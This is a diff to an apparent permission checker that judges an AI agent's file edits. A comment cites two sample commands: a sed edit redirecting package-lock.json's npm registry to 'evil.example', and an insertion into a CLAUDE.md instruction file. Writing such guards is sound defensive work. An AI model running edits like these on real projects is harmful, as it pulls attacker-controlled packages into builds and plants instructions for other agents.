@@ -1114,8 +1114,8 @@ def judge(fact: PathFact, path: str, action: Action, ctx: Context) -> tuple[Verd
     text = written_text(action, path)
     if text is None and action.commands and fact.content in _EDITED_IN_PLACE:
         # `sed -i 's#registry.npmjs.org#evil.example#' package-lock.json`, `sed -i '1i ...' CLAUDE.md`: the
-        # new text is in the line that edits the file, so the line is read for it
-        text = action.command_line
+        # new text is in the line that edits the file, so the line is read for it (`\/` is sed's `/`)
+        text = action.command_line.replace("\\/", "/")
     if text is None:
         if fact.blind or fact.asks:
             return Verdict.AUTH, f"{fact.purpose}: {path}"
